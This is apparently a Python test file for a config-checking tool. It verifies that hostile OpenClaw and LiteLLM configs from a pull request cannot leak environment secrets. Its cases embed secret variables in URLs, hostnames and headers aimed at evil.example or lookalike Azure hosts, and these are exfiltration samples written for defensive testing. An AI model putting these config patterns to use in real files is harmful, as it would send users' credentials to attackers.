"""Hostile configs: no variable of the machine leaves it, in a request or in a name lookup.

Each case is a config that a pull request could contain. The real command line reads it in live
mode. Sockets are replaced: the run reaches a recording server on loopback and nothing else.
"""

from __future__ import annotations

import json
import os
import socket
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from itertools import product
from pathlib import Path
from typing import Any

import command_line
import pytest
from command_line import Done, clawdoctor
from hostile_urls import FOREIGN, UNCLEAR

from clawdoctor.probes import preconditions
from clawdoctor.probes.http import Http
from clawdoctor.simulator.message import Request, Response, json_response
from clawdoctor.simulator.serve import serving
from clawdoctor.source.secret import Secret

CANARY = "zq7wk2xv9bn4mc8tj3hd"
HEX = "9f3c71b2e8d04a56c1b7f2093de84a65"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJ6cTd3azJ4djlibjQi.c2lnbmF0dXJlcTd3azJ4djk"
RUNS = {text[i : i + 8].casefold() for text in (CANARY, HEX, JWT) for i in range(len(text) - 7)}

SLOW = pytest.mark.slow
VARIABLES = [
    "NPM_AUTH",
    *(
        pytest.param(name, marks=SLOW)
        for name in ("AWS_SECRET_ACCESS_KEY", "DB_PASSWORD", "GITHUB_TOKEN")
    ),
]
AZURE = "https://contoso.openai.azure.com"
MASTER = "sk-1234567890"


@dataclass(frozen=True)
class Case:
    """A hostile config.

    VAR is the variable in the config, SERVER the URL of the recording server. `value` is that of
    the variable. `compose` is the environment of the proxy's service, `env_file` its file.
    `gateway` is the environment of OpenClaw's service. `root` are sections of LiteLLM's config, and
    `agents` the defaults of OpenClaw's agents.
    """

    id: str
    value: str = CANARY
    openclaw: dict[str, Any] = field(default_factory=dict)
    litellm: dict[str, Any] = field(default_factory=dict)
    settings: dict[str, Any] = field(default_factory=dict)
    root: dict[str, Any] = field(default_factory=dict)
    agents: dict[str, Any] = field(default_factory=dict)
    compose: Any = None
    gateway: dict[str, str] | None = None
    env_file: str = ""
    lookups: tuple[str, ...] = ()
    """The trusted hosts that are written in the config, with a key for Azure."""


def base_url(name: str, url: str, value: str = CANARY) -> Case:
    return Case(f"baseUrl {name}", value, openclaw={"baseUrl": url, "apiKey": HEX[::-1]})


def litellm(name: str, value: str = CANARY, **params: Any) -> Case:
    return Case(name, value, litellm={"api_base": "SERVER", **params})


def api_base(value: str) -> Case:
    return litellm(f"api_base {value}", value, api_base="os.environ/VAR")


def section(name: str, value: str = CANARY, *, without: str = "", **root: Any) -> Case:
    """A case of a section of LiteLLM's config, in place of a parameter of the deployment."""
    params = {"api_base": "SERVER", **({without: None} if without else {})}
    return Case(name, value, litellm=params, root=root)


def variables(name: str, value: str = CANARY, *, without: str = "") -> Case:
    """A case in which LiteLLM's config sets a variable to the value of another one."""
    own = {name: "os.environ/VAR"}
    case = section(f"sets {name} {value[:4]}", value, without=without, environment_variables=own)
    if name == "AZURE_API_KEY":
        case.litellm["api_key"] = "os.environ/AZURE_API_KEY"
    return case


def credential(name: str, value: str = CANARY, **values: Any) -> Case:
    """A case of a credential that a deployment uses."""
    listed = {"credential_name": "own", "credential_values": values, "credential_info": {}}
    params: dict[str, Any] = {"api_base": "SERVER", "litellm_credential_name": "own"}
    params |= dict.fromkeys(values)
    return Case(f"credential {name}", value, litellm=params, root={"credential_list": [listed]})


def gateway(name: str, environment: dict[str, str], **provider: Any) -> Case:
    return Case(f"gateway {name}", openclaw=provider, gateway=environment)


def compose(name: str, environment: Any, env_file: str = "", **params: Any) -> Case:
    settings = {"api_base": "SERVER", **params}
    return Case(f"compose {name}", litellm=settings, compose=environment, env_file=env_file)


REFERENCE = {"source": "env", "provider": "default", "id": "VAR"}
CASES = [
    base_url("label", "https://${VAR}.openai.azure.com/openai/v1"),
    base_url("label after another", "https://x-${VAR}.openai.azure.com/openai/v1"),
    base_url("label before another", "https://${VAR}.contoso.openai.azure.com/openai/v1"),
    base_url("host", "https://${VAR}/openai/v1", f"{CANARY}.openai.azure.com"),
    base_url("whole", "${VAR}", f"https://{CANARY}.openai.azure.com/openai/v1"),
    base_url("path", f"{AZURE}/${{VAR}}/openai/v1"),
    base_url("query", f"{AZURE}/openai/v1?key=${{VAR}}"),
    base_url("user", "https://${VAR}@contoso.openai.azure.com/openai/v1"),
    base_url("password", "https://me:${VAR}@contoso.openai.azure.com/openai/v1"),
    base_url("backslash", "https://${VAR}.evil.example\\@contoso.openai.azure.com/openai/v1"),
    base_url("foreign host", "https://${VAR}.evil.example/v1"),
    base_url("foreign suffix", "https://${VAR}.openai.azure.com.evil.example/v1"),
    base_url("foreign path", "https://evil.example/${VAR}/v1"),
    base_url("one label", "http://${VAR}:4000/v1"),
    base_url("name below localhost", "http://${VAR}.localhost:4000/v1"),
    base_url("full stop", "https://${VAR}.openai.azure.com./openai/v1"),
    base_url("fullwidth stop", "https://${VAR}\uff0eopenai.azure.com/openai/v1"),
    base_url("escape", "https://${VAR}%2eopenai.azure.com/openai/v1"),
    base_url("loopback's path", "SERVER/${VAR}/v1"),
    base_url("loopback's query", "SERVER/v1?key=${VAR}"),
    base_url("loopback's user", "http://${VAR}@127.0.0.1:4000/v1"),
    Case("apiKey", openclaw={"apiKey": "${VAR}"}),
    Case("apiKey short", openclaw={"apiKey": "$VAR"}),
    Case("apiKey reference", openclaw={"apiKey": REFERENCE}),
    Case("apiKey inside", openclaw={"apiKey": "sk-${VAR}"}),
    *(
        Case(
            f"apiKey to Azure {value[:4]}", value, {"baseUrl": f"{AZURE}/openai/v1", "apiKey": key}
        )
        for value, key in product((CANARY, HEX, JWT), ("${VAR}",))
    ),
    Case("header", openclaw={"headers": {"X-A": "${VAR}"}}),
    Case("header short", openclaw={"headers": {"X-A": "$VAR"}}),
    Case("header reference", openclaw={"headers": {"X-A": REFERENCE}}),
    Case("header of the request", openclaw={"request": {"headers": {"X-A": "a ${VAR}"}}}),
    Case(
        "header of the model",
        openclaw={"models": [{"id": "gpt", "name": "gpt", "headers": {"X-A": "${VAR}"}}]},
    ),
    Case(
        "baseUrl of the model",
        openclaw={"models": [{"id": "gpt", "name": "gpt", "baseUrl": "http://${VAR}.localhost"}]},
    ),
    Case(
        "token of the request",
        openclaw={"request": {"auth": {"mode": "authorization-bearer", "token": "${VAR}"}}},
    ),
    Case(
        "header to Azure",
        openclaw={"baseUrl": f"{AZURE}/openai/v1", "apiKey": HEX[::-1], "headers": {"X": "${VAR}"}},
        lookups=("contoso.openai.azure.com", "management.azure.com"),
    ),
    api_base(f"https://{CANARY}.openai.azure.com"),
    api_base(f"https://{CANARY}.openai.azure.com/openai"),
    api_base(f"https://me:{CANARY}@contoso.openai.azure.com"),
    api_base(f"{AZURE}/{CANARY}"),
    api_base(f"https://{CANARY}.evil.example"),
    api_base(f"http://{CANARY}.localhost:4000"),
    api_base(f"http://127.0.0.1:4000/{CANARY}"),
    api_base(CANARY),
    litellm("api_key", api_key="os.environ/VAR"),
    litellm("api_key hex", HEX, api_key="os.environ/VAR"),
    litellm("api_key jwt", JWT, api_key="os.environ/VAR"),
    litellm("api_key hex to Azure", HEX, api_base=AZURE, api_key="os.environ/VAR"),
    litellm("api_key jwt to Azure", JWT, api_base=AZURE, api_key="os.environ/VAR"),
    litellm("api_version", api_version="os.environ/VAR"),
    litellm("api_version dated", f"2024-10-21-{CANARY}", api_version="os.environ/VAR"),
    litellm("model", f"azure/{CANARY}", model="os.environ/VAR"),
    litellm("model openai", f"openai/{CANARY}", model="os.environ/VAR"),
    litellm("extra_headers", extra_headers={"X-A": "os.environ/VAR"}),
    litellm("default_headers", default_headers={"X-A": "os.environ/VAR"}),
    litellm("organization", organization="os.environ/VAR"),
    litellm("extra_body", extra_body={"a": "os.environ/VAR"}),
    litellm("azure_ad_token", JWT, azure_ad_token="os.environ/VAR"),
    litellm("azure_ad_token alone", JWT, azure_ad_token="os.environ/VAR", api_key=None),
    Case("master_key", settings={"master_key": "os.environ/VAR"}),
    compose(
        "host",
        {"AZURE_API_BASE": "https://${VAR}.openai.azure.com"},
        api_base="os.environ/AZURE_API_BASE",
    ),
    compose(
        "list",
        ["AZURE_API_BASE=https://$VAR.openai.azure.com"],
        api_base="os.environ/AZURE_API_BASE",
    ),
    compose(
        "default",
        {"AZURE_API_BASE": "${AZURE_UNSET_URL:-https://${VAR}.openai.azure.com}"},
        api_base="os.environ/AZURE_API_BASE",
    ),
    compose(
        "alternative",
        {"AZURE_API_BASE": "https://${CI:+$VAR}.openai.azure.com"},
        api_base="os.environ/AZURE_API_BASE",
    ),
    compose(
        "env_file",
        {},
        "AZURE_URL=https://${VAR}.openai.azure.com\nAZURE_API_BASE=${AZURE_URL}\n",
        api_base="os.environ/AZURE_API_BASE",
    ),
    compose("same name", ["VAR"], api_key="os.environ/VAR"),
    compose("key", {"AZURE_API_KEY": "${VAR}"}, api_key="os.environ/AZURE_API_KEY"),
    compose("version", {"AZURE_API_VERSION": "${VAR}"}, api_version="os.environ/AZURE_API_VERSION"),
    compose("model", {"AZURE_MODEL": "azure/${VAR}"}, model="os.environ/AZURE_MODEL"),
    *(
        variables("AZURE_API_BASE", url, without="api_base")
        for url in (
            f"https://{CANARY}.openai.azure.com",
            f"http://127.0.0.1:4000/{CANARY}",
            f"https://{CANARY}.evil.example",
            CANARY,
        )
    ),
    *(variables("AZURE_API_KEY", key) for key in (CANARY, HEX, JWT)),
    *(variables("AZURE_OPENAI_API_KEY", key, without="api_key") for key in (CANARY, HEX, JWT)),
    *(variables("AZURE_OPENAI_AD_TOKEN", key, without="api_key") for key in (CANARY, JWT)),
    variables("AZURE_API_VERSION", without="api_version"),
    variables("AZURE_API_VERSION", f"2024-10-21-{CANARY}", without="api_version"),
    section("setting headers", litellm_settings={"headers": {"X-A": "os.environ/VAR"}}),
    *(
        section(
            f"setting {name}", value, without=without, litellm_settings={name: "os.environ/VAR"}
        )
        for name, value, without in (
            ("api_base", f"https://{CANARY}.openai.azure.com", "api_base"),
            ("api_base", f"http://127.0.0.1:4000/{CANARY}", "api_base"),
            ("api_key", HEX, "api_key"),
            ("azure_key", HEX, "api_key"),
            ("api_version", CANARY, "api_version"),
            ("organization", CANARY, ""),
        )
    ),
    section(
        "router headers",
        router_settings={"default_litellm_params": {"extra_headers": {"X": "os.environ/VAR"}}},
    ),
    credential("api_key", HEX, api_key="os.environ/VAR"),
    credential("azure_ad_token", JWT, azure_ad_token="os.environ/VAR"),
    credential("api_base", f"https://{CANARY}.openai.azure.com", api_base="os.environ/VAR"),
    credential("api_version", api_version="os.environ/VAR"),
    credential("extra_headers", extra_headers={"X-A": "os.environ/VAR"}),
    litellm(
        "base_url", f"https://{CANARY}.openai.azure.com", base_url="os.environ/VAR", api_base=None
    ),
    litellm("headers", headers={"X-A": "os.environ/VAR"}),
    litellm("user", user="os.environ/VAR"),
    litellm("stop", stop=["os.environ/VAR"]),
    litellm(
        "tenant_id", tenant_id="os.environ/VAR", client_id="a", client_secret="b", api_key=None
    ),
    litellm(
        "client_secret", tenant_id="t", client_id="a", client_secret="os.environ/VAR", api_key=None
    ),
    litellm(
        "azure_password",
        azure_username="t",
        client_id="a",
        azure_password="os.environ/VAR",
        api_key=None,
    ),
    litellm(
        "oidc", f"oidc/file/{CANARY}", azure_ad_token="os.environ/VAR", client_id="a", tenant_id="b"
    ),
    litellm(
        "responses_api_version", model="azure/responses/gpt", responses_api_version="os.environ/VAR"
    ),
    litellm("api_version of responses", model="azure/responses/gpt", api_version="os.environ/VAR"),
    litellm("base_model", model_info={"base_model": "os.environ/VAR"}, base_model="os.environ/VAR"),
    litellm("custom_llm_provider", custom_llm_provider="os.environ/VAR"),
    litellm("key of foundry", HEX, model="azure_ai/gpt", api_key="os.environ/VAR"),
    litellm(
        "base of foundry",
        f"https://{CANARY}.services.ai.azure.com",
        model="azure_ai/gpt",
        api_base="os.environ/VAR",
    ),
    litellm("key of openai", model="openai/gpt", api_key="os.environ/VAR"),
    Case(
        "baseUrl of the model",
        f"https://{CANARY}.openai.azure.com",
        openclaw={"models": [{"id": "gpt", "name": "gpt", "baseUrl": "${VAR}/openai/v1"}]},
    ),
    Case(
        "id of the model",
        openclaw={"models": [{"id": "${VAR}", "name": "gpt"}]},
        agents={"model": {"primary": "litellm/${VAR}"}},
    ),
    Case(
        "params",
        agents={
            "params": {
                "stop": "${VAR}",
                "extra_body": {"a": "${VAR}"},
                "response_format": {"a": "${VAR}"},
                "chat_template_kwargs": {"a": "${VAR}"},
            }
        },
    ),
    Case(
        "params of the model",
        agents={"models": {"litellm/gpt": {"params": {"extra_body": {"a": "$VAR"}}}}},
    ),
    gateway("account", {"OPENAI_ORG_ID": "${VAR}", "OPENAI_PROJECT_ID": "${VAR}"}),
    gateway("key", {"LITELLM_API_KEY": "${VAR}"}, apiKey="${LITELLM_API_KEY}"),
    gateway("own key", {"LITELLM_API_KEY": "${VAR}"}, apiKey=None),
    gateway("version", {"AZURE_OPENAI_API_VERSION": "${VAR}"}, api="azure-openai-responses"),
    gateway(
        "name", {"AZURE_OPENAI_DEPLOYMENT_NAME_MAP": "gpt=${VAR}"}, api="azure-openai-responses"
    ),
    gateway("url", {"LITELLM_BASE_URL": "SERVER/${VAR}/v1"}, baseUrl="${LITELLM_BASE_URL}"),
    gateway("header", {"LITELLM_KEY_2": "${VAR}"}, headers={"X-A": "${LITELLM_KEY_2}"}),
    gateway("own key of another provider", {"OPENAI_API_KEY": "${VAR}"}, apiKey="OPENAI_API_KEY"),
]


@dataclass(frozen=True)
class Network:
    """The names that a run looks up, and the addresses to which it connects."""

    lookups: list[str] = field(default_factory=list)
    connections: list[str] = field(default_factory=list)


@pytest.fixture(autouse=True)
def network(monkeypatch: pytest.MonkeyPatch) -> Iterator[Network]:
    """Record lookups and connections; refuse all but connections to 127.0.0.1."""
    used = Network()
    connect, find = socket.socket.connect, socket.getaddrinfo

    def look_up(host: object, *rest: Any, **options: Any) -> Any:
        name = host.decode() if isinstance(host, bytes) else str(host)
        if name == "127.0.0.1" and rest:  # needs no lookup
            return find(name, *rest, **options)
        if name != "127.0.0.1":  # a server looks up its own name
            used.lookups.append(name)
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    def open_connection(self: socket.socket, address: Any) -> None:
        if address[0] != "127.0.0.1":
            used.connections.append(f"{address[0]}:{address[1]}")
            raise ConnectionRefusedError
        connect(self, address)

    for name in ("getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr"):
        monkeypatch.setattr(socket, name, look_up)
    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, open_connection)
    yield used


@dataclass(frozen=True)
class Recorder:
    """A server that is both LiteLLM and Azure, and the requests that it gets."""

    url: str
    requests: list[Request]

    @property
    def text(self) -> str:
        """Everything that the server was sent."""
        return "\n".join(
            f"{item.method} {item.path} {dict(item.query)} {dict(item.headers)} {item.body!r}"
            for item in self.requests
        )


def answer(request: Request) -> Response:
    """Be alive, list a model and fail each turn, so that a run tries everything."""
    if request.path.endswith("/health/liveliness"):
        return json_response(200, "I'm alive!")
    if request.path.endswith("/models"):
        return json_response(200, {"data": [{"id": "gpt"}]})
    return json_response(500, {"error": {"message": "Connection error."}})


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    requests: list[Request] = []
    with serving(answer, requests=requests) as url:
        yield Recorder(url, requests)


def write(folder: Path, case: Case, variable: str, server: str) -> None:
    """Write the files of a case."""
    provider = {
        "baseUrl": "SERVER/v1",
        "apiKey": "${LITELLM_MASTER_KEY}",
        "api": "openai-completions",
        "models": [{"id": "gpt", "name": "gpt"}],
        **case.openclaw,
    }
    provider = {name: value for name, value in provider.items() if value is not None}
    openclaw = {
        "models": {"mode": "merge", "providers": {"litellm": provider}},
        "agents": {"defaults": {"model": {"primary": "litellm/gpt"}, **case.agents}},
    }
    params = {
        "model": "azure/gpt",
        "api_base": "SERVER",
        "api_key": "os.environ/AZURE_API_KEY",
        "api_version": "2024-12-01-preview",
        **case.litellm,
    }
    params = {name: value for name, value in params.items() if value is not None}
    config = {
        "model_list": [{"model_name": "gpt", "litellm_params": params}],
        "litellm_settings": {"drop_params": True},
        "general_settings": {"master_key": "os.environ/LITELLM_MASTER_KEY", **case.settings},
        **case.root,
    }
    files = {"openclaw.json": json.dumps(openclaw), "litellm_config.yaml": json.dumps(config)}
    if case.compose is not None or case.gateway is not None:
        service = {
            "image": "ghcr.io/berriai/litellm:v1.81.0",
            "command": ["--config", "/app/config.yaml"],
            "environment": case.compose or {},
            "ports": [f"{server.rpartition(':')[2]}:4000"],
            "env_file": ["proxy.env"],
        }
        services = {"litellm": service}
        if case.gateway is not None:
            services["openclaw-gateway"] = {
                "image": "openclaw:2026.9.6",
                "network_mode": "host",
                "environment": {"LITELLM_MASTER_KEY": MASTER, **case.gateway},
            }
        files["compose.yaml"] = json.dumps({"services": services})
        files["proxy.env"] = (
            f"LITELLM_MASTER_KEY={MASTER}\nAZURE_API_KEY={HEX[::-1]}\n{case.env_file}"
        )
    for name, text in files.items():
        filled = text.replace("SERVER", server).replace("VAR", variable)
        (folder / name).write_text(filled, "utf-8")


def run(
    folder: Path, case: Case, variable: str, recorder: Recorder, *options: str, **environ: str
) -> Done:
    """Run the command line on a case, in live mode."""
    write(folder, case, variable, recorder.url)
    named = ["--openclaw-config", "openclaw.json", "--litellm-config", "litellm_config.yaml"]
    values = {"CI": "1", "LITELLM_MASTER_KEY": MASTER, "AZURE_API_KEY": "0" * 32}
    values |= {variable: case.value, **environ}
    return clawdoctor("run", *named, *options, cwd=folder, stdin=b"", **values)


@pytest.fixture(autouse=True)
def live(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(command_line, "_offline", list)


def leaks(text: str) -> list[str]:
    """The parts of the canaries in a text."""
    folded = text.casefold()
    return sorted(part for part in RUNS if part in folded)


ids = [case.id for case in CASES]


def alternate(values: Sequence[object]) -> list[Any]:
    """Return the values as parameters, of which every other one is slow."""
    return [
        pytest.param(value, marks=SLOW) if index % 2 else value
        for index, value in enumerate(values)
    ]


@pytest.mark.quick(10)
@pytest.mark.parametrize("variable", VARIABLES)
@pytest.mark.parametrize("case", alternate(CASES), ids=ids)
def test_no_variable_leaves_the_machine(
    tmp_path: Path, network: Network, recorder: Recorder, case: Case, variable: str
) -> None:
    done = run(tmp_path, case, variable, recorder, "--json")
    assert (network.lookups, network.connections) == (list(case.lookups), [])
    assert leaks(recorder.text) == []
    report = json.loads(done.stdout)
    assert report["internalErrors"] == []
    reasons = " ".join(f"{check.get('reason')}" for check in report["checks"])
    assert leaks(reasons) == []


@SLOW
@pytest.mark.parametrize("option", ["--json", "--verbose"])
@pytest.mark.parametrize("case", CASES, ids=ids)
def test_no_output_contains_a_variable(
    tmp_path: Path, recorder: Recorder, case: Case, option: str
) -> None:
    done = run(tmp_path, case, "NPM_AUTH", recorder, option)
    assert leaks(done.stdout + done.stderr) == []


@SLOW
@pytest.mark.parametrize("case", CASES, ids=ids)
def test_no_variable_is_shown_to_an_https_proxy(
    tmp_path: Path, network: Network, recorder: Recorder, case: Case
) -> None:
    with serving(lambda _: Response(502)) as server:
        reached: list[object] = []
        port = int(server.rpartition(":")[2])
        connect = socket.socket.connect

        def watch(self: socket.socket, address: Any) -> None:
            if address[1] == port:
                reached.append(address)
            connect(self, address)

        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(socket.socket, "connect", watch)
            run(tmp_path, case, "NPM_AUTH", recorder, "--json", HTTPS_PROXY=server)
    assert bool(reached) is bool(case.lookups)
    assert network == Network()


@pytest.mark.quick(10)
@pytest.mark.parametrize("url", alternate((*FOREIGN, *UNCLEAR)))
def test_a_key_goes_to_no_host_that_resembles_a_trusted_host(
    tmp_path: Path, network: Network, recorder: Recorder, url: str
) -> None:
    case = litellm("hosts", HEX, api_base=url, api_key="os.environ/VAR")
    case.openclaw.update({"baseUrl": f"{url}/v1", "apiKey": "${VAR}"})
    done = run(tmp_path, case, "AZURE_API_KEY", recorder, "--json")
    assert network == Network()
    assert recorder.requests == []
    assert json.loads(done.stdout)["internalErrors"] == []


TO_AZURE = [
    section("header of litellm", litellm_settings={"headers": {"X-A": "os.environ/VAR"}}),
    Case("header of openclaw", openclaw={"headers": {"X-A": "${VAR}"}}),
    Case(
        "credential of openclaw",
        openclaw={"request": {"auth": {"mode": "header", "headerName": "X", "value": "${VAR}"}}},
    ),
]


@pytest.mark.parametrize("case", TO_AZURE, ids=[case.id for case in TO_AZURE])
@pytest.mark.parametrize(("value", "sent"), [(CANARY, False), (HEX, True)])
def test_a_header_takes_a_key_to_azure_only_in_the_form_of_azures_keys(
    tmp_path: Path,
    recorder: Recorder,
    monkeypatch: pytest.MonkeyPatch,
    case: Case,
    value: str,
    sent: bool,
) -> None:
    """The name of the variable is that of a key, and anyone can rent a host of Azure's."""
    posts: list[tuple[str, str]] = []
    post = Http.post

    def record(self: Http, url: str, headers: Any, body: Any, **more: Any) -> Any:
        revealed = {k: v.reveal() if isinstance(v, Secret) else v for k, v in headers.items()}
        posts.append((url, f"{revealed}"))
        return post(self, url, headers, body, **more)

    monkeypatch.setattr(Http, "post", record)
    monkeypatch.setattr(preconditions, "_blocked_resource", lambda *_: None)
    own = {"baseUrl": f"{AZURE}/openai/v1", "apiKey": HEX[::-1]}
    case = replace(
        case,
        value=value,
        openclaw={**(own if case.openclaw else {}), **case.openclaw},
        litellm={"api_base": AZURE, "api_key": HEX[::-1]},
    )
    run(tmp_path, case, "LITELLM_MASTER_KEY_2", recorder, "--json")
    assert bool(leaks("".join(text for url, text in posts if AZURE in url))) is sent


@dataclass(frozen=True)
class Control:
    """A config that looks like a hostile one, but names a variable for its purpose."""

    case: Case
    variable: str
    lookups: tuple[str, ...] = ()
    sent: bool = False


HOST = f"{CANARY}.openai.azure.com"
CONTROLS = [
    Control(
        litellm("api_base", f"https://{HOST}", api_base="os.environ/VAR"),
        "AZURE_API_BASE",
        (HOST, "management.azure.com"),
    ),
    Control(
        Case(
            "baseUrl",
            openclaw={"baseUrl": "https://${VAR}.openai.azure.com/openai/v1", "apiKey": HEX},
        ),
        "AZURE_RESOURCE_NAME",
        (HOST, "management.azure.com"),
    ),
    Control(
        compose(
            "compose",
            {"AZURE_API_BASE": "https://${VAR}.openai.azure.com", "AZURE_API_KEY": HEX},
            api_base="os.environ/AZURE_API_BASE",
        ),
        "AZURE_RESOURCE",
        (HOST, "management.azure.com"),
    ),
    Control(Case("apiKey", openclaw={"apiKey": "${VAR}"}), "LITELLM_API_KEY", sent=True),
    Control(Case("header", openclaw={"headers": {"X-A": "${VAR}"}}), "GATEWAY_KEY", sent=True),
    Control(litellm("api_key", HEX, api_key="os.environ/VAR"), "AZURE_EU_KEY", sent=True),
    Control(litellm("model", f"azure/{CANARY}", model="os.environ/VAR"), "AZURE_MODEL", sent=True),
]


@pytest.mark.parametrize("control", CONTROLS, ids=[control.case.id for control in CONTROLS])
def test_a_variable_for_the_purpose_is_used(
    tmp_path: Path, network: Network, recorder: Recorder, control: Control
) -> None:
    run(tmp_path, control.case, control.variable, recorder, "--json")
    assert sorted(set(network.lookups)) == sorted(control.lookups)
    assert bool(leaks(recorder.text)) is control.sent


def test_the_user_names_a_host_that_contains_a_variable(
    tmp_path: Path, network: Network, recorder: Recorder
) -> None:
    case = api_base(f"https://{HOST}")
    run(tmp_path, case, "NPM_AUTH", recorder, "--json", "--trust-host", HOST.upper())
    assert set(network.lookups) == {HOST, "management.azure.com"}


@pytest.mark.parametrize(
    ("option", "value"),
    [
        *(
            ("--trust-host", value)
            for value in (
                "https://gateway.example",
                "gateway.example:443",
                "gateway.example/path",
                "*.example",
                "gateway.example.",
                "user@gateway.example",
                "b\u00fccher.example",
                "127.1",
                "0x7f.1",
                "gateway.example evil.example",
                "",
            )
        ),
        *(
            ("--proxy-url", value)
            for value in (
                "ftp://gateway.example",
                "http://",
                "http://127.1:4000",
                "https://evil.example\\@gateway.example",
                "https://b\u00fccher.example",
                "http://gateway.example:port",
            )
        ),
    ],
)
def test_an_option_that_names_no_host_is_wrong_usage(
    tmp_path: Path, network: Network, recorder: Recorder, option: str, value: str
) -> None:
    done = run(tmp_path, Case("good"), "NPM_AUTH", recorder, option, value)
    assert (done.returncode, done.stdout) == (2, "")
    assert f"error: {option}: " in done.stderr
    assert recorder.requests == []
    assert network == Network()


@pytest.mark.parametrize(
    "host", ["Gateway.example", "[::1]", "::1", "10.0.0.5", "xn--bcher-kva.example"]
)
def test_an_option_that_names_a_host(tmp_path: Path, recorder: Recorder, host: str) -> None:
    done = run(tmp_path, Case("good"), "NPM_AUTH", recorder, "--trust-host", host)
    assert done.returncode != 2
    assert recorder.requests


def test_authorities_in_a_pipe_do_not_hold_up_a_run(tmp_path: Path, recorder: Recorder) -> None:
    case = Case("good")
    os.mkfifo(tmp_path / "pipe")
    write(tmp_path, case, "NPM_AUTH", recorder.url)
    file = tmp_path / "litellm_config.yaml"
    config = json.loads(file.read_text("utf-8"))
    config["litellm_settings"]["ssl_verify"] = "pipe"
    file.write_text(json.dumps(config), "utf-8")
    named = ["--openclaw-config", "openclaw.json", "--litellm-config", "litellm_config.yaml"]
    done = clawdoctor("run", "--json", *named, cwd=tmp_path, LITELLM_MASTER_KEY=MASTER)
    outcomes = {check["code"]: check["outcome"] for check in json.loads(done.stdout)["checks"]}
    assert recorder.requests
    assert (outcomes["PX001"], outcomes["PX003"]) == ("passed", "passed")
